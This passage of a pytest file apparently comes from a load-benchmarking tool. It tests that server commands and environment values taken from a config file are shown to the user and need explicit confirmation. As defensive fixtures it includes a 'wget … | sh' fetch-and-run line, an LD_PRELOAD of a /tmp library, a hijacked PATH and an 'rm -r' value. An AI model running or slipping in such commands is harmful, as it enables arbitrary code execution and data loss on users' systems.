    confirm_command(scenario_with(tmp_path, yes_run=True), say=said.append)
    assert "as --yes-run allows" in said[0]
    # The user's own command needs none.
    confirm_command(resolve(flags={"server_cmd": "python3 serve.py {port}"}, environment={}), say=said.append)


@pytest.mark.parametrize(("answer", "goes_on"), [("yes\n", True), ("y\n", True), ("no\n", False), ("", False)])
def test_the_answer_at_the_terminal_decides(tmp_path, monkeypatch, answer, goes_on):
    """The question shows the command."""
    asked = io.StringIO()
    typed_in = io.StringIO(answer)
    monkeypatch.setattr(typed_in, "isatty", lambda: True)
    monkeypatch.setattr(asked, "isatty", lambda: True)
    monkeypatch.setattr("sys.stdin", typed_in)
    monkeypatch.setattr("sys.stderr", asked)
    scenario = scenario_with(tmp_path)
    if goes_on:
        confirm_command(scenario, say=lambda _: None)
    else:
        with pytest.raises(BadInput, match="not confirmed"):
            confirm_command(scenario, say=lambda _: None)
    assert "python3 serve.py --port {port}" in asked.getvalue()


def test_the_question_shows_all_that_would_run(tmp_path):
    """What looks like a secret may be a program."""
    script = "token=$(wget -qO- example.org | sh); exec serve"
    words = json.dumps(["sh", "-c", script, "--api-key", "rm", "{port}"])
    (tmp_path / "s.toml").write_text(f'[target]\nserver_cmd = {words}\nserver_env = {{ LD_PRELOAD = "/tmp/x.so" }}\n')
    with pytest.raises(BadInput) as caught:
        confirm_command(resolve(flags={}, environment={}, file=tmp_path / "s.toml"), say=lambda _: None)
    assert f"sh -c '{script}' --api-key rm {{port}}, with LD_PRELOAD=/tmp/x.so" in caught.value.message


def test_the_variables_of_a_file_need_a_yes_too(tmp_path):
    """They choose the program of the user's command, by its PATH, or what is loaded into it."""
    (tmp_path / "s.toml").write_text('[target]\nserver_env = { PATH = "/tmp/bin" }\n')
    flags = {"server_cmd": "serve --api-key my-own-key {port}"}
    with pytest.raises(BadInput) as caught:
        confirm_command(resolve(flags=flags, environment={}, file=tmp_path / "s.toml"), say=lambda _: None)
    assert "serve --api-key *** {port}, with PATH=/tmp/bin in its environment" in caught.value.message
    confirm_command(
        resolve(flags={**flags, "yes_run": True}, environment={}, file=tmp_path / "s.toml"), say=lambda _: None
    )
    # The user's own values are not shown, and need no confirmation.
    own = resolve(flags={**flags, "server_env": ["PATH=/tmp/mine"]}, environment={}, file=tmp_path / "s.toml")
    confirm_command(own, say=lambda _: None)


def test_the_commands_of_both_sides_are_one_question(tmp_path, monkeypatch):
    """Whoever compares decides about both at once, and about one that both have once."""
    (tmp_path / "s.toml").write_text('[compare]\na_cmd = "serve -t 1 {port}"\nb_cmd = "serve -t 2 {port}"\n')
    both = sides(resolve(flags={}, environment={}, file=tmp_path / "s.toml", command="compare"))
    with pytest.raises(BadInput) as caught:
        confirm_command(*both, say=lambda _: None)
    for name, count in (("a", 1), ("b", 2)):
        assert f"compare.{name}_cmd: wants to run serve -t {count} {{port}}" in caught.value.message
    asked, typed_in = io.StringIO(), io.StringIO("yes\n")
    for stream, name in ((typed_in, "sys.stdin"), (asked, "sys.stderr")):
        monkeypatch.setattr(stream, "isatty", lambda: True)
        monkeypatch.setattr(name, stream)
    confirm_command(*both, say=lambda _: None)
    assert asked.getvalue().count("Type yes to begin") == 1
    assert "\n  serve -t 1 {port}\n  serve -t 2 {port}\nMay they? Type yes to begin:\n" in asked.getvalue()
    # Of one side alone that is the file's, there is nothing else to ask.
    own = sides(resolve(flags={"b_cmd": "mine {port}"}, environment={}, file=tmp_path / "s.toml", command="compare"))
    with pytest.raises(BadInput) as caught:
        confirm_command(*own, say=lambda _: None)
    assert "mine" not in caught.value.message


@pytest.mark.parametrize("command_line", ['server_cmd = "sh -c {what} {port}"', ""])
def test_what_a_file_fills_into_a_command_is_confirmed(tmp_path, command_line):
    """The values of a grid are shown with a command of the file, and with the user's own."""
    (tmp_path / "s.toml").write_text(f"[target]\n{command_line}\n[vary]\nwhat = ['exit 1', 'rm -r x']\n")
    flags = {} if command_line else {"server_cmd": "sh -c {what} {port}"}
    with pytest.raises(BadInput) as caught:
        confirm_command(resolve(flags=flags, environment={}, file=tmp_path / "s.toml"), say=lambda _: None)
    assert "sh -c {what} {port}, {what} being 'exit 1' or 'rm -r x'" in caught.value.message


def test_a_question_is_not_longer_than_a_screen(tmp_path):
    """Of a megabyte it shows the beginning, how long it is, and that it is to be read in the file."""
    long = "y" * 1_000_000
    (tmp_path / "s.toml").write_text(
        f'[target]\nserver_cmd = ["sh", "-c", "{long}", "{{port}}"]\nserver_env = {{ A = "{long}" }}\n'
    )
    with pytest.raises(BadInput) as caught:
        confirm_command(resolve(flags={}, environment={}, file=tmp_path / "s.toml"), say=lambda _: None)
    assert "wants to run sh -c yyyy" in caught.value.message
    assert "… (2,000,0" in caught.value.message
    assert len(caught.value.message) < 2_500
    assert "read all of it in the file first" in caught.value.hint


def test_no_file_can_confirm(tmp_path):
    """A file that says yes to itself is refused."""
    (tmp_path / "s.toml").write_text('[target]\nserver_cmd = "a {port}"\nyes_run = true\n')
    with pytest.raises(BadInput, match="only you can confirm this"):
        resolve(flags={}, environment={}, file=tmp_path / "s.toml")


# Whose server it is.


def test_a_command_with_a_port_of_its_own_replaces_the_server_of_a_weaker_source():
    """The address, and the key that is for it; a command that needs the address takes it."""
    variables = {"LOADBENCH_URL": "http://127.0.0.1:9/v1", "LOADBENCH_API_KEY_ENV": "WALK_KEY", "WALK_KEY": "abcdefgh"}
    scenario = resolve(flags={"server_cmd": "python3 serve.py {port}"}, environment=variables)
    assert scenario.url is None
    assert scenario.target.api_key_env == "LOADBENCH_API_KEY"
    assert {value.reason for value in scenario.unused} == {"overridden by --server-cmd"}
    scenario = resolve(flags={"server_cmd": "python3 serve.py"}, environment=variables)
    assert scenario.url == "http://127.0.0.1:9/v1"


def test_each_side_of_a_comparison_has_its_command():
    """By --a-cmd and --b-cmd, by the settings of a side, or the same for both with --same."""
    a, b = "serve --threads 1 {port}", "serve --threads 2 {port}"
    for given, texts in (
        ({"a_cmd": a, "b_cmd": b}, {}),
        ({"server_cmd": a, "b_cmd": b}, {}),
        ({}, {"a": f"server_cmd={a}", "b": f"server_cmd={b}"}),
    ):
        of_a, of_b = sides(resolve(flags=given, environment={}, command="compare"), **texts)
        assert of_a.target.server_cmd == tuple(a.split())
        assert of_b.target.server_cmd == tuple(b.split())
        assert not of_a.simulated
    with pytest.raises(BadInput, match="both sides are the same"):
        sides(resolve(flags={"server_cmd": a}, environment={}, command="compare"))
    with pytest.raises(BadInput, match="names a command already"):
        sides(resolve(flags={"a_cmd": a, "b_cmd": b}, environment={}, command="compare"), a=f"server_cmd={a}")


# How it ended, in words.


@pytest.mark.parametrize(
    ("end", "words"),
    [
        (ServerEnd(code=3), "with exit code 3"),
        (ServerEnd(code=1, oom_kills=2), "with exit code 1, after the kernel had killed a process for lack of memory"),
        (ServerEnd(signal="SIGSEGV"), "by SIGSEGV"),
        (ServerEnd(signal="SIGKILL"), "by SIGKILL, of which too little memory is the usual cause"),
        (ServerEnd(signal="SIGKILL", oom_kills=1), "by SIGKILL: the kernel had no memory left"),
        (ServerEnd(code=137), "with exit code 137 (128 + 9: killed, of which too little memory is the usual cause)"),
        (ServerEnd(code=137, oom_kills=1), "with exit code 137 (128 + 9: killed: the kernel had no memory left)"),
        (ServerEnd(code=139), "with exit code 139 (128 + 11: SIGSEGV)"),
        (ServerEnd(code=255), "with exit code 255"),
        (ServerEnd(code=0xC0000005), "with exit code 3221225477 (access violation)"),
    ],
)
def test_the_end_of_a_server_in_words(end, words):
    """A crash, an exit code, and too little memory are told apart."""
    assert str(end) == words


# Ctrl-C with the whole command line is above; here the words around it.


@pytest.mark.slow
@linux_only
def test_an_interrupted_sweep_still_has_its_report(tmp_path, mark):
    """As with any other server."""
    options = ("--users=1", "--duration=300s", "--warm-up=0s", "--telemetry=off", "--no-live")
    out = interrupted(started("sweep", f"--server-cmd={command(mark)}", *options, cwd=tmp_path))
    assert "started by loadbench" in out
    assert with_mark(mark) == []
